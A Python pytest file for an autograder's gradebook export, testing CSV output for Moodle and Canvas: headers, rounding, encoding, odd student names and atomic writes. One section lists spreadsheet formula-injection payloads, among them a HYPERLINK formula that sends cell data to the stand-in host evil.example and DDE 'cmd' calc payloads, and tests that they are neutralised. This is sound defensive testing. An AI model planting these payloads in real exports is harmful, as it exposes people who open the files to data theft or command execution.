"""The class gradebooks: gradebook.csv, Moodle's grading worksheet, Canvas' Gradebook import.

Results are built with the real result classes (and checked against the result schema), written,
and read back with the csv module. The Moodle and Canvas headers are spelled out here as their
sources give them (see grader/export/gradebooks.py for the quotes), not imported from the module, so a
change to either side shows up as a failure.
"""
import csv
import io
import json
import os
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

from conftest import validate_result
from grader.export import gradebooks as gradebook
from grader.export.gradebooks import write_gradebooks
from grader.model.result import CaseResult, ExerciseResult, Result

ROOT = Path(__file__).resolve().parents[1]

EXERCISES = [("similarity", 12.0), ("softmax", 10.0), ("attention", 78.0)]
TITLE = "Esprits numériques — séance 11 : contexte, attention et modèles génératifs"
NOW = datetime(2026, 3, 14, 9, 26, 53, tzinfo=timezone.utc)

# Moodle, mod/assign/gradingtable.php + the English strings (recordid, fullname, status, grade,
# maxgrade, gradecanbechanged, lastmodifiedsubmission, lastmodifiedgrade, assignfeedback_comments).
MOODLE_HEADER = ["Identifier", "Full name", "Status", "Grade", "Maximum Grade", "Grade can be changed",
                 "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
MOODLE_HIDDENUSER = "Participant "      # $string['hiddenuser'] = 'Participant ';
# Canvas, lib/gradebook_exporter.rb (include_sis_id) and lib/gradebook_importer.rb.
CANVAS_STUDENT_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


# --- building results as `grade bulk` does -------------------------------------------------------------

def student(sid, name=None, origin="plain", source=None, lms_id=None):
    """`lms_id`: what intake read from the LMS export's names (Entry.lms_id), which `grade bulk`
    hands to the gradebooks; by default the id itself for a Moodle or Canvas student with a number."""
    if lms_id is None and origin in ("moodle", "canvas") and re.fullmatch(r"[0-9]+", sid):
        lms_id = sid
    record = {"id": sid, "name": name, "origin": origin, "fingerprint": "0" * 64,
              "source": source or f"/class/submissions/{sid}"}
    return {**record, "lms_id": lms_id} if lms_id else record


def case(exercise, n, points, max_points, status="passed", visibility="public", message=""):
    return CaseResult(id=f"{exercise}/{exercise}/case-{n}", exercise=exercise, function=exercise,
                      visibility=visibility, kind="random", status=status, message=message,
                      points=points, max_points=max_points)


def result(who, scores=None, status="ok", notes=(), problems=None, cases=None):
    """`scores`: {exercise: points} — every exercise of EXERCISES gets one ExerciseResult."""
    exercises = []
    if scores is not None:
        for name, max_points in EXERCISES:
            got = scores.get(name, 0.0)
            these = (cases or {}).get(name) or [case(name, 0, got, max_points,
                                                     "passed" if got == max_points else "failed",
                                                     message="" if got == max_points else "values differ")]
            exercises.append(ExerciseResult(name, name.title(), got, max_points, these,
                                            problems=list((problems or {}).get(name, []))))
    data = Result(submission=who["source"], seed=2026, score=sum(e.score for e in exercises),
                  max_score=sum(p for _, p in EXERCISES), exercises=exercises, notes=list(notes),
                  student=who, status=status).to_json()
    validate_result(data)
    return data


def invalid(who, reason="report.docx is not a folder, a .py, a .ipynb or a .zip: nothing the grader can read."):
    return result(who, scores=None, status="invalid", notes=[reason])


def write(tmp_path, results, **kwargs):
    kwargs.setdefault("canvas_column", None)
    return write_gradebooks(results, EXERCISES, tmp_path, TITLE, **kwargs)


def read(path: Path, bom: bool = False) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == bom
    with open(path, newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture(autouse=True)
def fixed_clock(monkeypatch):
    monkeypatch.setattr(gradebook, "_now", lambda: NOW)


@pytest.fixture
def class_results():
    return [
        result(student("zoe", "Zoé Dupont"), {"similarity": 12, "softmax": 7.5, "attention": 60.125}),
        result(student("123456", "Li Wang 王", "moodle",
                       "/class/submissions/Li Wang 王_123456_assignsubmission_file"),
               {"similarity": 12, "softmax": 10, "attention": 78}),
        invalid(student("bob", "Bob, \"the\" Builder")),
        result(student("carla", None), {"similarity": 6, "softmax": 2.675}, status="timeout",
               notes=["attention/scaled_dot_product_attention: timed out after 3 s (an endless loop?)"]),
    ]


# --- gradebook.csv ---------------------------------------------------------------------------------------

def test_paths_returned_and_only_the_three_files_left(tmp_path, class_results):
    paths = write(tmp_path, class_results)
    assert paths == [tmp_path / "gradebook.csv", tmp_path / "gradebook-moodle.csv", tmp_path / "gradebook-canvas.csv"]
    assert sorted(os.listdir(tmp_path)) == ["gradebook-canvas.csv", "gradebook-moodle.csv", "gradebook.csv"]


def test_gradebook_columns_totals_and_sorting(tmp_path, class_results):
    write(tmp_path, class_results)
    rows = read(tmp_path / "gradebook.csv", bom=True)
    assert rows[0] == ["student_id", "name", "similarity", "softmax", "attention", "total", "max_total", "status"]
    body = rows[1:]
    assert [r[0] for r in body] == ["123456", "bob", "carla", "zoe"]       # sorted by id, one row each
    by_id = {r[0]: r for r in body}
    assert by_id["zoe"] == ["zoe", "Zoé Dupont", "12", "7.5", "60.125", "79.625", "100", "ok"]
    assert by_id["123456"] == ["123456", "Li Wang 王", "12", "10", "78", "100", "100", "ok"]
    # an invalid result has no exercises: still a full row, zeros
    assert by_id["bob"] == ["bob", 'Bob, "the" Builder', "0", "0", "0", "0", "100", "invalid"]
    # a timeout keeps what was earned; half-up rounding of the shortest decimal form (2.675 → 2.68)
    assert by_id["carla"] == ["carla", "", "6", "2.675", "0", "8.675", "100", "timeout"]
    assert all(len(r) == len(rows[0]) for r in rows)


def test_total_is_rounded_once_from_the_exact_points(tmp_path):
    third = 10 / 3
    write(tmp_path, [result(student("a"), {"similarity": third, "softmax": third, "attention": third})])
    row = read(tmp_path / "gradebook.csv", bom=True)[1]
    assert row[2:5] == ["3.333333", "3.333333", "3.333333"] and row[5] == "10"


def test_plain_decimal_point_and_bom_only_in_gradebook_csv(tmp_path, class_results):
    write(tmp_path, class_results)
    assert (tmp_path / "gradebook.csv").read_bytes().startswith(b"\xef\xbb\xbfstudent_id,")
    for name in ("gradebook-moodle.csv", "gradebook-canvas.csv"):
        raw = (tmp_path / name).read_bytes()
        assert not raw.startswith(b"\xef\xbb\xbf")
        raw.decode("utf-8")  # strict UTF-8
    text = (tmp_path / "gradebook.csv").read_text(encoding="utf-8-sig")
    assert "7.5" in text and "7,5" not in text
    assert "Zoé Dupont" in text and "王" in text
    raw = (tmp_path / "gradebook.csv").read_bytes()
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == 5 and b"\n" not in raw.replace(b"\r\n", b"")


def test_odd_names_survive_a_round_trip(tmp_path):
    names = {"comma": "Martin, Zoé", "quotes": 'Jean "Jojo" O\'Brien', "newline": "Anne\nMarie\r\nLou",
             "cjk": "王小明", "rtl": "سارة", "emoji": "Ana 🐍", "semicolon": "a;b;c;d;e;f"}
    write(tmp_path, [result(student(sid, name), {"softmax": 1}) for sid, name in names.items()])
    got = {r[0]: r[1] for r in read(tmp_path / "gradebook.csv", bom=True)[1:]}
    assert got == names
    # the LMS files keep each name on one line (their importers match names line by line)
    canvas = read(tmp_path / "gradebook-canvas.csv")[2:]
    assert {r[0] for r in canvas} >= {"Martin, Zoé", 'Jean "Jojo" O\'Brien', "Anne Marie Lou", "王小明"}
    assert len((tmp_path / "gradebook-canvas.csv").read_bytes().split(b"\r\n")) == 2 + len(names) + 1


def test_control_characters_and_surrogates_in_names(tmp_path):
    write(tmp_path, [result(student("x", "Eve\x00\x1b[31m\udcff"), {"softmax": 1})])
    assert read(tmp_path / "gradebook.csv", bom=True)[1][1] == "Eve[31m\ufffd"


# --- formula injection -----------------------------------------------------------------------------------

INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def formula_like(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip(" ").startswith(("=", "+", "-", "@", "\uff1d"))


def test_injection_in_names_and_ids_is_neutralised(tmp_path):
    results = [result(student(f"s{i}", name), {"softmax": 1}) for i, name in enumerate(INJECTIONS)]
    results += [result(student("=1+1", "Mallory"), {"softmax": 1}), invalid(student("@evil", "-x"))]
    write(tmp_path, results)
    rows = read(tmp_path / "gradebook.csv", bom=True)[1:]
    names = {r[0]: r[1] for r in rows}
    for i, name in enumerate(INJECTIONS):
        assert names[f"s{i}"] == "'" + name               # quoted, otherwise intact
    assert names["'=1+1"] == "Mallory" and names["'@evil"] == "'-x"
    for path in (tmp_path / "gradebook-moodle.csv", tmp_path / "gradebook-canvas.csv"):
        body = read(path)[1:]
        for row in body:
            assert not any(formula_like(cell) for cell in row), row
    for row in rows:
        assert not any(formula_like(cell) for cell in row), row
    canvas = {r[0] for r in read(tmp_path / "gradebook-canvas.csv")[2:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in canvas
    assert "'=1+1" in canvas                                  # "\t=1+1" is put on one line first, then quoted


def test_harmless_names_are_not_touched(tmp_path):
    names = ["Zoé", "O'Neil", "1+1 Club", "Anne-Marie", "e=mc2"]
    write(tmp_path, [result(student(f"s{i}", n), {"softmax": 1}) for i, n in enumerate(names)])
    assert [r[1] for r in read(tmp_path / "gradebook.csv", bom=True)[1:]] == names


# --- Moodle ------------------------------------------------------------------------------------------------

def moodle_rows(tmp_path):
    rows = read(tmp_path / "gradebook-moodle.csv")
    return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]


def test_moodle_header_is_the_worksheet_moodle_exports(tmp_path, class_results):
    write(tmp_path, class_results)
    header, _ = moodle_rows(tmp_path)
    assert header == MOODLE_HEADER
    # what importgradeslib.php init() requires: the three columns found by their exact header
    for required in ("Identifier", "Grade", "Last modified (grade)"):
        assert header.count(required) == 1


def test_moodle_identifiers_grades_and_dates(tmp_path, class_results):
    write(tmp_path, class_results)
    _, rows = moodle_rows(tmp_path)
    by_name = {r["Full name"]: r for r in rows}
    li = by_name["Li Wang 王"]
    assert li["Identifier"] == "Participant 123456"
    assert li["Grade"] == "100" and li["Maximum Grade"] == "100" and li["Grade can be changed"] == "Yes"
    # as importgradeslib.php next() reads it: strip strlen(get_string('hiddenuser')) characters
    assert li["Identifier"][len(MOODLE_HIDDENUSER):] == "123456"
    # strtotime() reads ISO 8601 in any language; it is the time of writing
    assert datetime.fromisoformat(li["Last modified (grade)"]) == NOW
    # students who did not come from Moodle: a row all the same, which matches nobody
    for name in ("Zoé Dupont", 'Bob, "the" Builder', "carla"):
        row = by_name[name]
        assert row["Identifier"] == "Participant 0"
        assert row["Identifier"][len(MOODLE_HIDDENUSER):].isdigit()      # a number for the database, never ''
        assert "not imported" in row["Status"]
    assert by_name["Zoé Dupont"]["Grade"] == "79.625"
    assert [r["Full name"] for r in rows] == ["Li Wang 王", 'Bob, "the" Builder', "carla", "Zoé Dupont"]  # by id


def test_moodle_participant_from_intake_when_intake_suffixed_the_id(tmp_path):
    """The participant id is the one intake read (Entry.lms_id), never parsed again from names."""
    who = student("654321-2", "Zoé Martin", "moodle", "/class/sub/Zoé Martin_654321_assignsubmission_file",
                  lms_id="654321")
    flat = student("777-2", "Flat File", "moodle", "/class/sub/Flat File_777_assignsubmission_file_softmax.py",
                   lms_id="777")
    odd = student("weird", "No Number", "moodle", "/class/sub/weird")
    write(tmp_path, [result(who, {"softmax": 1}), result(flat, {"softmax": 1}), result(odd, {"softmax": 1})])
    _, rows = moodle_rows(tmp_path)
    ids = {r["Full name"]: r["Identifier"] for r in rows}
    assert ids == {"Zoé Martin": "Participant 654321", "Flat File": "Participant 777", "No Number": "Participant 0"}


def test_moodle_feedback_score_status_and_first_problem(tmp_path):
    results = [
        result(student("1", "Ok All", "moodle"), {n: p for n, p in EXERCISES}),
        result(student("2", "Shape", "moodle"), {"similarity": 12},
               cases={"softmax": [case("softmax", 0, 0, 10, "failed",
                                       message="shape (3,) expected, got <class 'list'> & more")]}),
        invalid(student("3", "Docx", "moodle")),
        result(student("4", "Hidden", "moodle"), {"similarity": 12},
               cases={"softmax": [case("softmax", 0, 0, 10, "failed", visibility="hidden", message="secret")]}),
        result(student("5", "Banned", "moodle"), {"similarity": 12}, status="violation",
               problems={"softmax": ["imports torch, which is not allowed"]}),
        result(student("6", "Long", "moodle"), {}, notes=["x" * 1000]),
    ]
    write(tmp_path, results)
    _, rows = moodle_rows(tmp_path)
    fb = {r["Identifier"]: r["Feedback comments"] for r in rows}
    assert fb["Participant 1"] == "Autograder: 100.0/100.0 (graded)."
    assert fb["Participant 2"].startswith("Autograder: 12.0/100.0 (graded). First problem: softmax/softmax/case-0: ")
    assert "&lt;class 'list'&gt; &amp; more" in fb["Participant 2"]          # stored as HTML by Moodle
    assert "<" not in fb["Participant 2"]
    assert fb["Participant 3"].startswith("Autograder: 0.0/100.0 (not graded: the submission could not be read). "
                                          "First problem: report.docx is not a folder")
    assert "secret" not in fb["Participant 4"] and "softmax/softmax: a hidden case: failed" in fb["Participant 4"]
    assert "(graded, with a rule violation). First problem: softmax: imports torch" in fb["Participant 5"]
    assert len(fb["Participant 6"]) < 300 and fb["Participant 6"].endswith("…")
    assert all("\n" not in f for f in fb.values())


def test_in_french_the_words_change_and_the_headers_do_not(tmp_path, class_results):
    """French messages (feedback, the Moodle status, errors); the headers the LMS importers match,
    the identifiers, numbers and the JSON status words stay exactly as they are."""
    from grader.i18n import set_language

    results = class_results + [
        result(student("7", "Hidden", "moodle"), {"similarity": 12},
               cases={"softmax": [case("softmax", 0, 0, 10, "not_implemented", visibility="hidden")]})]
    set_language("fr")
    try:
        write(tmp_path, results)
        with pytest.raises(ValueError) as caught:
            write(tmp_path / "again", [results[0], results[0]])
    finally:
        set_language("en")
    assert str(caught.value) == "deux résultats pour l'étudiant·e 'zoe' : donnez un seul résultat par étudiant·e."
    header, rows = moodle_rows(tmp_path)
    assert header == MOODLE_HEADER
    by_id = {r["Identifier"]: r for r in rows}
    assert by_id["Participant 123456"]["Status"] == "Corrigé automatiquement : ok"
    assert by_id["Participant 123456"]["Feedback comments"] == "Correction automatique : 100.0/100.0 (noté)."
    assert by_id["Participant 7"]["Feedback comments"] == (
        "Correction automatique : 12.0/100.0 (noté). Premier problème : softmax/softmax : un cas caché : à implémenter")
    others = [r for r in rows if r["Identifier"] == "Participant 0"]
    assert {r["Status"] for r in others} >= {"Pas un rendu Moodle (plain : zoe) : cette ligne n'est pas importée"}
    carla = next(r for r in others if r["Full name"] == "carla")
    assert carla["Feedback comments"].startswith(
        "Correction automatique : 8.7/100.0 (noté, une partie du code a dépassé le temps imparti). Premier problème : ")
    table = read(tmp_path / "gradebook.csv", bom=True)
    assert table[0] == ["student_id", "name", "similarity", "softmax", "attention", "total", "max_total", "status"]
    assert {row[-1] for row in table[1:]} == {"ok", "invalid", "timeout"}
    assert read(tmp_path / "gradebook-canvas.csv")[:2] == [CANVAS_STUDENT_HEADER + [TITLE],
                                                           ["    Points Possible", "", "", "", "", "100"]]


def emulate_moodle_import(path: Path) -> dict:
    """importgradeslib.php, in Python: columns by header, the id after 'Participant '."""
    header, *rows = read(path)
    gradeindex, idindex, modifiedindex = header.index("Grade"), header.index("Identifier"), \
        header.index("Last modified (grade)")
    feedbackindex = header.index("Feedback comments")
    assert feedbackindex != 0   # `if (!empty($details['index']))`: a feedback column at index 0 is ignored
    return {row[idindex][len(MOODLE_HIDDENUSER):]: (row[gradeindex], row[modifiedindex]) for row in rows}


def test_moodle_file_as_the_importer_reads_it(tmp_path, class_results):
    write(tmp_path, class_results)
    imported = emulate_moodle_import(tmp_path / "gradebook-moodle.csv")
    assert imported["123456"][0] == "100"
    assert set(imported) == {"123456", "0"}


# --- Canvas ------------------------------------------------------------------------------------------------

def test_canvas_header_points_possible_and_column(tmp_path, class_results):
    write(tmp_path, class_results, canvas_column="Séance 11 (12345)")
    rows = read(tmp_path / "gradebook-canvas.csv")
    assert rows[0] == CANVAS_STUDENT_HEADER + ["Séance 11 (12345)"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "100"]
    # lib/gradebook_importer.rb: row_has_student_headers?, update_column_count, header?
    header = rows[0]
    assert len(header) > 3 and "Student" in header[0] and "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]                               # last_student_info_column, 5 student columns
    assert "Points Possible" in rows[1][0]
    # Assignment.title_and_id: /\A(.*)\s\((\d+)\)\z/
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[5]).groups() == ("Séance 11", "12345")
    assert all(len(r) == 6 for r in rows)


def test_canvas_column_defaults_to_the_title(tmp_path, class_results):
    write(tmp_path, class_results)
    assert read(tmp_path / "gradebook-canvas.csv")[0][5] == TITLE


def test_canvas_ids_only_for_canvas_students(tmp_path):
    results = [
        result(student("4242", "doejane", "canvas", "/c/doejane_4242_987_softmax.py"), {"softmax": 10}),
        result(student("4242-2", "doejohn", "canvas", "/c/doejohn_LATE_4242_988_softmax.py", lms_id="4242"),
               {"softmax": 5}),
        result(student("anon_Ab3dE", None, "canvas", "/c/anon_Ab3dE_989_softmax.py"), {"softmax": 4}),
        result(student("31337", "Plain Digits"), {"softmax": 3}),               # a folder named 31337/
        result(student("555", "From Moodle", "moodle", "/m/From Moodle_555_assignsubmission_file"), {"softmax": 2}),
        invalid(student("9001", "textonly", "canvas", "/c/textonly_9001_text.html")),
    ]
    write(tmp_path, results, canvas_column="Séance 11 (12345)")
    rows = {r[0]: r for r in read(tmp_path / "gradebook-canvas.csv")[2:]}
    assert rows["doejane"][1] == "4242" and rows["doejane"][5] == "10"
    assert rows["doejohn"][1] == "4242"                      # intake suffixed the id; Entry.lms_id has it
    assert rows["anon_Ab3dE"][1] == ""                         # anonymous grading: no user id
    assert rows["Plain Digits"][1] == ""                       # never someone else's Canvas id
    assert rows["From Moodle"][1] == ""
    assert rows["textonly"][1] == "9001" and rows["textonly"][5] == "0"
    assert all(r[2:5] == ["", "", ""] for r in rows.values())


# --- atomicity and refusals --------------------------------------------------------------------------------

def test_rewrite_replaces_and_leaves_no_temporary(tmp_path, class_results):
    write(tmp_path, class_results)
    write(tmp_path, class_results[:1])
    assert sorted(os.listdir(tmp_path)) == ["gradebook-canvas.csv", "gradebook-moodle.csv", "gradebook.csv"]
    assert len(read(tmp_path / "gradebook.csv", bom=True)) == 2


def test_a_failed_write_keeps_the_old_file_and_removes_the_temporary(tmp_path, class_results, monkeypatch):
    write(tmp_path, class_results)
    before = (tmp_path / "gradebook-moodle.csv").read_bytes()
    real_replace = os.replace

    def failing_replace(src, dst):
        if Path(dst).name == "gradebook-moodle.csv":
            assert Path(src).name.startswith(".gradebook-moodle.csv.") and Path(src).name.endswith(".tmp")
            raise OSError(28, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", failing_replace)  # the shared writer, grader.model.files
    with pytest.raises(OSError, match="No space"):
        write(tmp_path, class_results[:1])
    assert (tmp_path / "gradebook-moodle.csv").read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == ["gradebook-canvas.csv", "gradebook-moodle.csv", "gradebook.csv"]


@pytest.mark.parametrize("bad, message", [
    ("duplicate", "two results for student 'zoe'"),
    ("no student", "no student id"),
    ("unknown exercise", "exercise 'decoder' is not in the assignment"),
])
def test_bad_results_raise_before_anything_is_written(tmp_path, bad, message):
    good = result(student("zoe", "Zoé"), {"softmax": 1})
    if bad == "duplicate":
        results = [good, result(student("zoe", "Zoé again"), {"softmax": 2})]
    elif bad == "no student":
        results = [good, {**good, "student": None}]
    else:
        other = json.loads(json.dumps(good))
        other["student"]["id"] = "yann"
        other["exercises"][0]["name"] = "decoder"
        results = [good, other]
    out = tmp_path / "out"
    with pytest.raises(ValueError, match=re.escape(message)):
        write(out, results)
    assert not out.exists() or not any(out.iterdir())


def test_an_empty_class_still_gets_headers(tmp_path):
    write(tmp_path, [])
    assert read(tmp_path / "gradebook.csv", bom=True) == [
        ["student_id", "name", "similarity", "softmax", "attention", "total", "max_total", "status"]]
    assert read(tmp_path / "gradebook-moodle.csv") == [MOODLE_HEADER]
    assert read(tmp_path / "gradebook-canvas.csv") == [CANVAS_STUDENT_HEADER + [TITLE],
                                                        ["    Points Possible", "", "", "", "", "100"]]


def test_out_folder_is_created(tmp_path, class_results):
    paths = write(tmp_path / "a" / "b", class_results)
    assert all(p.is_file() for p in paths)


def test_csv_text_is_what_a_spreadsheet_expects(tmp_path, class_results):
    """A field with a comma or quote is quoted with doubled quotes (RFC 4180)."""
    write(tmp_path, class_results)
    text = (tmp_path / "gradebook.csv").read_text(encoding="utf-8-sig")
    assert 'bob,"Bob, ""the"" Builder",0' in text
    assert list(csv.reader(io.StringIO(text)))[0][0] == "student_id"
